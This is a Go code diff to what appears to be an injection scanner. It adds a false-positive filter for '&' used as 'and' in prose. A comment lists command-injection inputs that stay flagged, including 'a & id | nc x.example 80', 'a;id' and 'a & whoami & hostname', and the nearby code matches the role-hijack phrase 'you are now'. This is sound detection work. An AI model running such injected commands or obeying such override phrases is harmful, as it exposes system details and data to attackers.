@@ -450,6 +450,25 @@ func proseContractions(t, m string) bool {
 	return ok && splitCommandName(string(b)) == ""
 }
 
+// reAmpersandClause is what follows separator_recon's word when "&" is English "and" in a
+// sentence: a space, then two more plain words ("flags & env variables referring to SSL",
+// "tags & set max length to 100").
+var reAmpersandClause = lazyre.New(`^[ \t]+[a-z]+[ \t]+[a-z]+\b`)
+
+// ampersandWords reports whether every separator_recon match in t is "&" written for "and"
+// between words of a sentence (issue 26, fresh calib: Mailpit's changelog): a lone "&" after a
+// word and a space, then a space, the command's name as a word and two more plain words
+// (reAmpersandClause). "localhost & set", "x && env", "a & id | nc x.example 80", "a;id" and "a
+// & whoami & hostname" still count.
+func ampersandWords(t string) bool {
+	return everyMatchSpan(commandRules, t, func(at, end int) bool {
+		if t[at] != '&' || at < 2 || t[at-1] != ' ' || !isWordChar(t[at-2]) || end >= len(t) || at+1 >= len(t) || t[at+1] != ' ' {
+			return false
+		}
+		return reAmpersandClause.MatchString(t[end:])
+	}, "separator_recon")
+}
+
 // proseMentions drops what wordy prose mentions rather than carries: a shell's path (`/bin/sh
 // -c` in documentation is a name; nothing runs prose), a quoted word or phrase "or" another
 // (quote_or_quote and quote_tautology on English), giving a thing access to a secret
@@ -482,7 +501,8 @@ func proseMentions(r *Result) {
 		// English contraction in a sentence ("I'd like to introduce", "I didn't know what I'd
 		// expect"): proseContractions.
 		return h.Rule == "split_command_name" && strings.Count(h.Match, "'") == 1 && strings.HasSuffix(h.Match, "'s") ||
-			h.Rule == "split_command_name" && proseContractions(t, h.Match)
+			h.Rule == "split_command_name" && proseContractions(t, h.Match) ||
+			h.Rule == "separator_recon" && ampersandWords(t)
 	})
 	dropHits(r, PromptInjection, func(h Hit) bool {
 		if h.Rule != "role_hijack" || (h.Match != "you are now" && h.Match != "you're now") {
